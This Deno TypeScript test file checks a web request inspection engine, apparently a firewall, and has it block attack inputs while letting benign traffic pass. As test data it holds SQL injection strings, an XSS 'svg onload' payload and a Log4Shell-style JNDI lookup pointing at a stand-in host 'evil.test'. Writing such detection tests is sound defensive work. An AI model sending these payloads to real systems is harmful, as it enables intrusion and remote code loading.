import assert from "node:assert/strict";
import { inspect } from "../../engine/inspect.ts";
import type { EngineRequest } from "../../engine/types.ts";

const enc = new TextEncoder();
const UA =
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/114.0 Safari/537.36";

function get(query: string, headers: [string, string][] = []): EngineRequest {
  return { method: "GET", path: "/search", query, headers: [["user-agent", UA], ...headers] };
}

Deno.test("inspect() blocks a SQL injection in a query parameter at balanced", () => {
  const result = inspect(get("id=1%27%20or%20%271%27%3D%271"), { level: "balanced" });
  assert.equal(result.blocking?.class, "sqli");
  assert.equal(result.blocking?.location, "query:id");
});

Deno.test("inspect() blocks XSS hidden in the referer's query", () => {
  const result = inspect(
    get("", [["referer", "http://a.example/?name=%3Csvg+onload%3Dalert(1)%3E"]]),
    { level: "balanced" },
  );
  assert.equal(result.blocking?.class, "xss");
});

Deno.test("inspect() lets a typical benign request pass with no findings", () => {
  const result = inspect(
    get("q=cheap+flights&page=2&sort=price", [["cookie", "sid=abc123; theme=dark"]]),
    { level: "strict" },
  );
  assert.deepEqual(result.findings, []);
  assert.equal(result.blocking, undefined);
});

Deno.test("inspect() lets English text and JSON operators pass", () => {
  const body = enc.encode(JSON.stringify({
    comment: "Please select the union option or drop me a line; a < b and c > d",
    filter: { price: { op: ">=", value: "100" } },
    snippet: "for (let i = 0; i < n; i++) { total += price[i]; }",
  }));
  const result = inspect(
    {
      method: "POST",
      path: "/api",
      query: "",
      headers: [["content-type", "application/json"]],
      body,
    },
    { level: "balanced" },
  );
  assert.equal(result.blocking, undefined);
});

Deno.test("inspect() applies the level thresholds to the same finding", () => {
  const req = get("q=price%3E%3D100%20and%20rating%3D5");
  assert.equal(inspect(req, { level: "balanced" }).blocking, undefined);
  assert.equal(inspect(req, { level: "strict" }).blocking?.class, "sqli");
  const critical = get("id=1%20union%20select%201,2,3");
  assert.equal(inspect(critical, { level: "low" }).blocking?.ruleId, "sqli.union");
});

Deno.test("inspect() orders findings by score", () => {
  const result = inspect(get("a=1%27%20or%20%271%27%3D%271&b=1%20union%20select%201,2"), {
    level: "balanced",
  });
  const scores = result.findings.map((f) => f.score);
  assert.deepEqual(scores, [...scores].sort((x, y) => y - x));
});

Deno.test("inspect() stops at the budget and reports truncation", () => {
  const query = Array.from({ length: 50 }, (_, i) => `p${i}=${"x%20".repeat(50)}`).join("&");
  const result = inspect(get(query), { level: "balanced", budget: 1000 });
  assert.equal(result.truncated, true);
});

Deno.test("inspect() decodes base64 hiding an attack", () => {
  const result = inspect(get(`name=${btoa('{"id":"1 and 1=1"}')}`), { level: "balanced" });
  assert.equal(result.blocking?.class, "sqli");
});

Deno.test("inspect() never throws on binary and malformed bodies", () => {
  const body = Uint8Array.from({ length: 4096 }, (_, i) => (i * 131) % 256);
  for (const type of ["application/json", "multipart/form-data; boundary=x", "text/xml", ""]) {
    inspect(
      { method: "POST", path: "/%zz", query: "%", headers: [["content-type", type]], body },
      { level: "strict" },
    );
  }
});

Deno.test("inspect() finds an attack in a header on every request, through a full header memo", () => {
  const evil = "Mozilla/5.0 ${jndi:ldap://evil.test/a}";
  const attacked = (): EngineRequest => ({
    method: "GET",
    path: "/",
    query: "",
    headers: [["user-agent", evil]],
  });
  const first = inspect(attacked(), { level: "balanced" });
  assert.equal(first.blocking?.location, "header:user-agent");
  const again = inspect(attacked(), { level: "balanced" });
  assert.deepEqual(again.blocking, first.blocking);
  // More distinct values than the memo keeps: it empties and refills, never forgets an attack.
  for (let i = 0; i < 5000; i++) {
    const r = inspect(get("", []), { level: "balanced" });
    assert.equal(r.blocking, undefined);
    const other = inspect(
      { method: "GET", path: "/", query: "", headers: [["user-agent", `${UA} b/${i}`]] },
      { level: "balanced" },
    );
    assert.equal(other.findings.length, 0);
  }
  assert.equal(
    inspect(attacked(), { level: "balanced" }).blocking?.class,
    first.blocking?.class,
  );
  // A benign agent's verdict does not leak findings into the next request's list.
  const benign = inspect(get("q=shoes"), { level: "balanced" });
  assert.equal(benign.findings.length, 0);
});
